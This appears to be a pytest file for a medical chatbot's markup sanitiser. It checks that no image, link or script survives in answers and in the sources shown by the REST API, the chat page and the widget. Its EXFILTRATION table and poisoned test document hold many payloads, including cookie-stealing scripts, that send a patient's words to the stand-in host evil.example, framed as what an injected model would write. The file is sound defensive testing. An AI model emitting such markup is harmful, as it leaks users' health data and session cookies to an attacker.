"""The markup sanitiser (``safety.markup``): no image or link to any host survives in what the
model or a document writes, in any Markdown or HTML form, on the answer and on the sources that
the REST API, the chat page and the widget show (issue 15, items 2 and 12).

The oracle is a renderer, not the sanitiser's own rules: the sanitised text is rendered to HTML
by markdown-it-py (CommonMark with raw HTML, bare-address linking and every URL scheme allowed),
and the HTML is read by the standard HTML parser for any element or attribute that fetches or
links.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from spinechat.config import Settings
from spinechat.embedding import MiniLMEmbedder
from spinechat.index import open_store
from spinechat.retrieval import HybridIndex
from spinechat.safety import neutralise_markup
from spinechat.web.app import create_app
from support.corpus import plant_document
from support.servers import serve
from support.sse import read_events

REPO = Path(__file__).resolve().parents[1]


def _renderer() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(
        ["linkify", "table", "strikethrough"]
    )
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md


_RENDER = _renderer()
_FETCHING = {"src", "href", "srcset", "poster", "action", "formaction", "data", "background"}


class _Live(HTMLParser):
    """Every element of rendered HTML that links, fetches or runs something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("a", "img", "script", "iframe", "object", "embed", "video", "audio", "link"):
            self.found.append(tag)
        self.found += [f"{tag}[{name}]" for name, _ in attrs if name in _FETCHING]
        self.found += [f"{tag}[{name}]" for name, _ in attrs if name.startswith("on")]


def live_markup(text: str) -> list[str]:
    """What a Markdown renderer would turn ``text`` into that links, fetches or runs."""
    parser = _Live()
    parser.feed(_RENDER.render(text))
    parser.close()
    return parser.found


# Each writes an image, a link or live HTML to evil.example, the way a model steered by an
# injected instruction would, carrying the patient's words in the address.
EXFILTRATION = {
    "shortcut reference image": (
        "Screws can loosen [1]. ![chart]\n\n[chart]: https://evil.example/a.png?q=my+fever"
    ),
    "full reference image": "See ![the chart][r] [1].\n\n[r]: http://evil.example/p.png?q=pain",
    "collapsed reference image": "![c][] here\n\n[c]: https://evil.example/p.png",
    "reference with title line": '![c]\n\n[c]:\n  https://evil.example/p.png\n  "a title"',
    "reference indented": "![c]\n\n   [c]: https://evil.example/p.png",
    "reference in a quote": "> ![c]\n>\n> [c]: https://evil.example/p.png",
    "reference in a list": "- ![c]\n\n  [c]: https://evil.example/p.png",
    "reference link": "Read [this][x].\n\n[x]: https://evil.example/go?q=back+pain",
    "reference before use": "[x]: https://evil.example/p.png\n\nText ![x] more [1].",
    "javascript reference": "[go][j]\n\n[j]: javascript:alert(1)",
    "inline image with title": '![x](https://evil.example/p.png "chart")',
    "image inside a link": "[![x](https://evil.example/i.png)](https://evil.example/go)",
    "angle destination": "[x](<https://evil.example/a b>)",
    "nested brackets": "![a [b] c](https://evil.example/p.png)",
    "link over two lines": "[click\nhere](https://evil.example/go)",
    "autolink": "Details: <https://evil.example/collect?q=1>",
    "mail autolink": "Write to <mailto:leak@evil.example>",
    "bare url": "More at https://evil.example/collect?q=my+screws",
    "bare www": "More at www.evil.com/collect",
    "bare e-mail": "Write to leak@evil.com",
    "data image": "![x](data:image/png;base64,AAAA)",
    "entity javascript": "[go](&#106;avascript:alert(1))",
    "html image": '<img src="https://evil.example/p.png">',
    "html image in text": "Text <img src='https://evil.example/p.png' onerror=alert(1)> more.",
    "html link block": '<a href="https://evil.example/">\nclick\n</a>',
    "script block": "<script>fetch('https://evil.example/'+document.cookie)</script>\nok",
    "script inline": "ok <script>fetch('https://evil.example/')</script> fine",
    "iframe": "<iframe src=https://evil.example/></iframe>Text",
    "table cell image": "| a | b |\n|---|---|\n| ![x](https://evil.example/p.png) | [y](https://evil.example/) |",
    "heading image": "# ![x](https://evil.example/h.png) Recovery",
    "video poster": '<video poster="https://evil.example/p.png"></video>',
}


@pytest.mark.parametrize("text", EXFILTRATION.values(), ids=EXFILTRATION.keys())
def test_no_image_or_link_survives(text: str) -> None:
    out = neutralise_markup(text)
    assert live_markup(out) == []
    assert neutralise_markup(out) == out  # sanitised per streamed piece and again at the end


def test_a_www_address_is_shown_as_code() -> None:
    # GFM renderers (the chat page's) link "www." before any name; linkify-it only before a known
    # top-level domain, so the oracle cannot see this one.
    assert neutralise_markup("More at www.evil.example/collect") == (
        "More at `www.evil.example/collect`"
    )


def test_the_oracle_sees_every_attack_before_sanitising() -> None:
    # The renderer finds something live in each input, so each case tests the sanitiser.
    for name, text in EXFILTRATION.items():
        assert live_markup(text), name


KEPT = {
    "citations": "Screws rarely push through the skin [1]. See your surgeon [2][3].",
    "list and emphasis": "Line one\n\n- a list item\n- another, with *emphasis* and **bold**",
    "bare domain": "The NHS page on nhs.uk explains more [1].",
    "brackets in prose": "Most people [about 9 in 10] walk on day one [2].",
    "code": "The level is written `L4-L5` on the report.",
    "chinese": "螺钉松动并不常见[1]。请与您的外科医生讨论。",
}


@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT.keys())
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert neutralise_markup(text) == text


def test_link_and_image_text_stays_readable() -> None:
    out = neutralise_markup(
        "See [the NHS page](https://www.nhs.uk/) and ![a spine diagram](x.png)."
    )
    assert out == "See the NHS page and a spine diagram."


_ATOMS = st.sampled_from(
    [
        "Screws ", "can loosen ", "[1]", "[x]", "![x]", "!", "[", "]", "(", ")", ":", "<", ">",
        "\n", "\n\n", "> ", "- ", "   ", "`", "*", "https://evil.example/p.png", "www.evil.example",
        "[x]: https://evil.example/q.png", "<img src=https://evil.example/i.png>", "<a href=x>",
        "javascript:alert(1)", "<script>", "</script>", "&#106;", "\t", "|", "---", '"t"',
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_ATOMS, max_size=14).map("".join))
def test_any_mix_of_markup_ends_inert(text: str) -> None:
    out = neutralise_markup(text)
    assert live_markup(out) == []
    assert neutralise_markup(out) == out


# -- the sources of a real answer, over REST ------------------------------------------------------

POISONED_DOC = """---
id: "rod-skin-checks"
title: "Skin checks over rods <script>alert('title')</script> ![t](https://evil.example/t.png)"
type: "article"
publisher: "Spine Unit <img src=x onerror=alert('publisher')>"
---

# Skin checks over rods

## Checking the scar <img src=x onerror=alert('section')> [s](javascript:alert(1))

Check the skin over your titanium rods once a week with a mirror <script>alert('text')</script>.
A thin shiny patch over a rod should be shown to the spine team ![rod][r].

[r]: https://evil.example/rod.png?q=skin

<img src="https://evil.example/pixel.png" onerror="alert('block')">
"""
QUESTION = "How often should I check the skin over my titanium rods with a mirror?"


@pytest.fixture(scope="module")
def poisoned_app(
    tmp_path_factory: pytest.TempPathFactory,
    seeded_settings: Settings,
    seeded_store: object,
    embedder: MiniLMEmbedder,
    make_answerer: Callable[..., Any],
) -> Iterator[httpx.Client]:
    """The offline app on the shipped knowledge plus one document full of markup."""
    chosen = plant_document(
        seeded_settings,
        tmp_path_factory.mktemp("poisoned"),
        "rod-skin-checks.md",
        POISONED_DOC,
        embedder,
        prompts_dir=REPO / "prompts",
        rate_limit_per_minute=100_000,
    )
    index = HybridIndex(open_store(chosen).get_collection(), embedder)
    answerer = make_answerer(settings=chosen, index=index)
    with (
        serve(create_app(chosen, answerer=answerer)) as url,
        httpx.Client(base_url=url, timeout=60) as http,
    ):
        yield http


def _assert_inert_sources(sources: list[dict[str, Any]]) -> None:
    assert any(source["doc_id"] == "rod-skin-checks" for source in sources), sources
    for source in sources:
        for field in ("title", "section", "snippet"):
            value = source[field]
            assert "<" not in value and live_markup(value) == [], (field, value)


def test_rest_sources_carry_no_live_markup(poisoned_app: httpx.Client) -> None:
    response = poisoned_app.post("/api/ask", json={"question": QUESTION})
    assert response.status_code == 200
    answer = response.json()
    _assert_inert_sources(answer["sources"])
    assert live_markup(answer["answer"]) == []


def test_streamed_sources_carry_no_live_markup(poisoned_app: httpx.Client) -> None:
    response = poisoned_app.post("/api/ask/stream", json={"question": QUESTION})
    assert response.status_code == 200
    final = [data for name, data in read_events(response.text) if name == "final"]
    _assert_inert_sources(final[-1]["sources"])
